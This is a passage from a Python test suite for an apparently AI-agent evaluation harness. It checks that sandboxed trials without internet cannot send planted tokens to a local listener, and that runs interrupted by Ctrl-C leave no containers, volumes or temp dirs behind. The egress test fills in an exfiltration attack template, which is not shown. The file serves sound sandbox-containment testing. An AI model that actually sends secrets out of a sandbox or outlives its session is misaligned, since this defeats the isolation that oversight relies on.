    tasks, tasks_open = tmp_path / "tasks", tmp_path / "tasks-open"
    with Listener() as listener:
        for name, allow in ((closed, False), (control, True)):
            attack = (
                EGRESS_ATTACK.replace("@TOKEN@", tokens[name])
                .replace("@GATEWAY@", gateway)
                .replace("@PORT@", str(listener.port))
            )
            sec.write_task(tasks if allow is False else tasks_open, name, attack=attack,
                           allow_internet=allow)  # fmt: skip
        run = cli.run([tasks, tasks_open], jobs=2)
        open_run = run
        time.sleep(0.5)
    assert run.code == 0, run
    got = b"\n".join(data for _kind, _peer, data in listener.received)
    assert tokens[control].encode() not in got, f"an internet trial reached the host: {got!r}"
    assert tokens[closed].encode() not in got, f"EGRESS from a no-internet trial: {got!r}"
    closed_ws = run.evidence(run.by_task(closed)) / "workspace"
    report = _json(closed_ws / "egress.json")
    assert report["interfaces"] == ["lo"], report
    assert report["gateway"] != "CONNECTED" and report["dns_tcp"] != "CONNECTED", report
    assert "rc=0" not in (closed_ws / "getent.txt").read_text()
    open_report = _json(open_run.evidence(open_run.by_task(control)) / "workspace" / "egress.json")
    assert open_report["gateway"] != "CONNECTED" and "eth0" in open_report["interfaces"]
    assert run.by_task(closed)["sandbox"]["network"] == "none"


# ===================================================================== cleanup


def _tmp_leftovers(tmpdir: Path) -> list[str]:
    prefixes = ("harness-trial-", "harness-build-", "harness-supervisor-")
    return sorted(p.name for p in tmpdir.iterdir() if p.name.startswith(prefixes))


@pytest.mark.docker
def test_nothing_left_after_run_and_after_ctrl_c(
    client: Any, cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack persistence / interrupted run: no labelled container, volume, network or temp dir.

    A normal run, then a run interrupted with SIGINT while its trial container is up: exit
    code 130, and afterwards nothing labelled with either run remains on the engine (except
    the shared ``org.harness.kind=runtime`` volume), and no harness temp dir remains in the
    run's TMPDIR.
    """
    name = sec.unique("cleanup")
    task = sec.write_task(
        tmp_path / "tasks", name, attack="echo x > /app/x.txt\nsleep 30\n", agent_timeout=8
    )
    quick = sec.unique("cleanup-quick")
    # A never-seen build context: the run really builds (through a harness-build-* dir).
    dockerfile = f"FROM {sec.BASE_IMAGE}\nLABEL org.harness.test.nonce={quick}\n"
    quick_task = sec.write_task(
        tmp_path / "tasks", quick, attack="echo ok > /app/ok.txt\n", dockerfile=dockerfile
    )

    run = cli.run([quick_task])
    image = run.by_task(quick)["sandbox"]["image"] if run.records else None
    if image:
        client.images.remove(image, force=True)
    assert run.code == 0, run
    assert str(image).startswith(f"harness-task/{quick}:"), image
    assert sec.labelled(client, f"{sec.RUN_LABEL}={run.run_dir.name}") == {
        "containers": [],
        "volumes": [],
        "networks": [],
    }
    assert not _tmp_leftovers(cli.tmpdir)

    proc = cli.start([task])
    with sec.Watcher(client, f"{sec.TASK_LABEL}={name}") as watcher:
        watcher.wait_for_container(timeout=60)
        time.sleep(1.0)
        os.killpg(proc.pid, signal.SIGINT)  # what Ctrl-C does: the whole process group
        interrupted = cli.finish(proc, timeout=90)
    assert interrupted.code == 130, interrupted
    assert interrupted.run_dir is not None
    summary = json.loads((interrupted.run_dir / "summary.json").read_text())
    assert summary["interrupted"] is True
    left = sec.labelled(client, f"{sec.RUN_LABEL}={interrupted.run_dir.name}")
    assert left == {"containers": [], "volumes": [], "networks": []}, left
    assert not sec.labelled(client, f"{sec.TASK_LABEL}={name}")["containers"]
    assert not _tmp_leftovers(cli.tmpdir), _tmp_leftovers(cli.tmpdir)


@pytest.mark.docker
def test_repeated_ctrl_c_leaves_nothing_behind(
    client: Any, cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack interrupted run, impatient user: Ctrl-C pressed four times in two seconds.

    The first Ctrl-C only starts a graceful wait (the running trial goes on until its agent
    timeout), so users press it again. Every further KeyboardInterrupt must not abort the
    cleanup: exit code 130 and, afterwards, no container, volume or temp dir of the run.
    """
    name = sec.unique("ctrlc")
    task = sec.write_task(
        tmp_path / "tasks", name, attack="echo x > /app/x.txt\nsleep 30\n", agent_timeout=8
    )
    proc = cli.start([task])
    with sec.Watcher(client, f"{sec.TASK_LABEL}={name}") as watcher:
        watcher.wait_for_container(timeout=60)
        time.sleep(1.0)
        for pause in (0, 0.5, 0.5, 0.5):
            time.sleep(pause)
            try:
                os.killpg(proc.pid, signal.SIGINT)
            except ProcessLookupError:
                break
        interrupted = cli.finish(proc, timeout=90)
    assert interrupted.code == 130, interrupted
    assert interrupted.run_dir is not None
    left = sec.labelled(client, f"{sec.RUN_LABEL}={interrupted.run_dir.name}")
    assert left == {"containers": [], "volumes": [], "networks": []}, (
        f"repeated Ctrl-C leaked docker objects: {left}"
    )
    assert not _tmp_leftovers(cli.tmpdir), _tmp_leftovers(cli.tmpdir)
